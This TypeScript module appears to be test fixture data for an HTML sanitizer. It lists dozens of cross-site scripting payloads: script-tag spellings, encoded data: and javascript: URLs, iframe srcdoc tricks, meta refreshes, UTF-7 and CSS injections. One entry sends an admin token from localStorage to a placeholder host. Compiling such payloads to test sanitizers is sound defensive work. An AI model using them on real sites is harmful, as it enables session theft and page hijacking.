import { base64, decimal, ELSEWHERE, hexadecimal, RUN } from './payload.ts';

const SCRIPT = `<script>parent.${RUN}</script>`;
const ESCAPED_SCRIPT = SCRIPT.replaceAll('<', '&lt;');

/** Script elements and their spellings. */
const SCRIPTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script >${RUN}</script >`,
  `<script\n>${RUN}</script\n>`,
  `<script\t>${RUN}</script\t>`,
  `<script/>${RUN}</script>`,
  `<script/x>${RUN}</script/x>`,
  `<script x>${RUN}</script x>`,
  `<script ~~~>${RUN}</script ~~~>`,
  `<script>${RUN}`,
  `<script>${RUN}//`,
  `<script>${RUN}</script`,
  `<script src="data:text/javascript,${RUN}"></script>`,
  `<script src=data:,${RUN}></script>`,
  `<script src="data:;base64,${base64(RUN)}"></script>`,
  `<script src=//${ELSEWHERE}/x.js></script>`,
  `<script src=https:${ELSEWHERE}/x.js></script>`,
  `<script src="/\\${ELSEWHERE}/x.js"></script>`,
  `<script/src="//${ELSEWHERE}/x.js">`,
  `<script a=">" src="data:,${RUN}"></script>`,
  `<script a=\`>\` src="data:,${RUN}"></script>`,
  `<script "a='>'" src="data:,${RUN}"></script>`,
  `<script =">" src="data:,${RUN}"></script>`,
  `<script type=module>${RUN}</script>`,
  `<script type=module src="data:text/javascript,${RUN}"></script>`,
  `<script type="">${RUN}</script>`,
  `<script language=javascript>${RUN}</script>`,
  `<script language=vbs>msgbox 1</script>`,
  `<script async src=data:,${RUN}></script>`,
  `<script type=importmap>{"imports":{"/assets/":"data:text/javascript,${RUN}"}}</script>`,
  `<script type=speculationrules>{"prefetch":[{"urls":["//${ELSEWHERE}/"]}]}</script>`,
  `<script for=window event=onload>${RUN}</script>`,
  `<script nonce="">${RUN}</script>`,
  `<script><!--\n${RUN}\n//--></script>`,
  `<script><![CDATA[${RUN}]]></script>`,
  `<script>/*<p title="*/${RUN}//"></p></script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<scr\u0000ipt>${RUN}</scr\u0000ipt>`,
  `<<script>${RUN}//<</script>`,
  `<sc<!-- -->ript>${RUN}</sc<!-- -->ript>`,
  `<script>fetch('//${ELSEWHERE}/'+localStorage.adminToken)</script>`,
];

/** Documents within the document. */
const FRAMES = [
  `<iframe srcdoc='${SCRIPT}'></iframe>`,
  `<iframe srcdoc=${decimal(SCRIPT)}></iframe>`,
  `<iframe srcdoc="${hexadecimal(SCRIPT)}"></iframe>`,
  `<iframe srcdoc="&lt;img src=x onerror=parent.${RUN}&gt;"></iframe>`,
  `<iframe srcdoc="&lt;svg onload=top.${RUN}&gt;" sandbox="allow-scripts allow-same-origin"></iframe>`,
  `<iframe srcdoc="&amp;lt;script&amp;gt;parent.${RUN}&amp;lt;/script&amp;gt;"></iframe>`,
  `<iframe/srcdoc="<svg/onload=parent.${RUN}>">`,
  `<iframe src="data:text/html;base64,${base64(SCRIPT)}"></iframe>`,
  `<iframe src=//${ELSEWHERE}></iframe>`,
  `<iframe src=javascript:parent.${RUN}>`,
  `<iframe><a title="</iframe><img src=x onerror=${RUN}>">`,
  `<iframe name="javascript:${RUN}" src="about:blank"></iframe>`,
  `<object type=text/html data="data:text/html,${ESCAPED_SCRIPT}"></object>`,
  `<object data="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="parent.${RUN}"/>`)}"></object>`,
  `<embed type=image/svg+xml src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.${RUN}'/>">`,
  `<frameset><frame src=javascript:parent.${RUN}></frameset>`,
  `<portal src=//${ELSEWHERE}></portal>`,
];

/** Elements that affect the whole document: base URLs, resources, redirects. */
const HEADS = [
  `<base href=//${ELSEWHERE}/>`,
  `<base href="javascript:/a/-${RUN}//">`,
  `<meta http-equiv=refresh content="0;javascript:${RUN}">`,
  `<meta http-equiv=refresh content="0;url=data:text/html,${ESCAPED_SCRIPT}">`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;URL='javascript:${RUN}'">`,
  `<meta http-equiv=Set-Cookie content="x=${RUN}">`,
  `<meta http-equiv=Content-Type content="text/html; charset=utf-7">+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `<meta charset=utf-7>+ADw-img src=x onerror=${RUN}+AD4-`,
  `<meta name=referrer content=unsafe-url><img src=//${ELSEWHERE}/x>`,
  `<link rel=stylesheet href=//${ELSEWHERE}/x.css>`,
  `<link rel=stylesheet href="data:text/css,*{background:url(//${ELSEWHERE})}">`,
  `<link rel=import href="data:text/html,${ESCAPED_SCRIPT}">`,
  `<link rel=manifest href=//${ELSEWHERE}/x.json>`,
  `<html manifest=//${ELSEWHERE}/x>`,
  `<html onmouseover=${RUN}>`,
  `<head onload=${RUN}>`,
  `<title>${RUN}</title>`,
  `<!DOCTYPE html [<!ENTITY x "${RUN}">]><p>&x;</p>`,
  `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="javascript:${RUN}"?>`,
  `<?php ${RUN} ?><img src=x onerror=${RUN}>`,
  `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
  `<!--[if true]><img src=x onerror=${RUN}><![endif]-->`,
  `<xml id=x><x><![CDATA[<img src=x onerror=${RUN}>]]></x></xml>`,
  `<xml src=//${ELSEWHERE}/x.xml></xml><span datasrc=#x datafld=c dataformatas=html>x</span>`,
  `<?import namespace="t" implementation="#default#time2"><t:set attributeName=innerHTML to="<img src=x onerror=${RUN}>">`,
];

/** Style sheets that run code, load resources, cover the page or read its content. */
const STYLES = [
  `<style>@import url(//${ELSEWHERE}/x.css);</style>`,
  `<style>*{background:url(//${ELSEWHERE}/x)}</style>`,
  `<style>main{display:none}</style>`,
  `<style type=text/javascript>${RUN}</style>`,
  `<style media=x onload=${RUN}></style>`,
  `<style><img src="</style><img src=x onerror=${RUN}//">`,
  `<style>@keyframes x{}</style><p style=animation-name:x onanimationend=${RUN}>x</p>`,
  `<p style="x:expression(${RUN})">x</p>`,
  `<p style="background:url(javascript:${RUN})">x</p>`,
  `<p style='font-family:"</style><img src=x onerror=${RUN}>"'>x</p>`,
  `<p style="position:fixed;inset:0;z-index:9999">covers</p>`,
  `<a style="pointer-events:none;position:absolute"><a onclick=${RUN}>x</a></a>`,
];

/** Whole elements that don't belong in a body: scripts, frames, heads and styles. */
export const DOCUMENT_PARTS: readonly string[] = [...SCRIPTS, ...FRAMES, ...HEADS, ...STYLES];
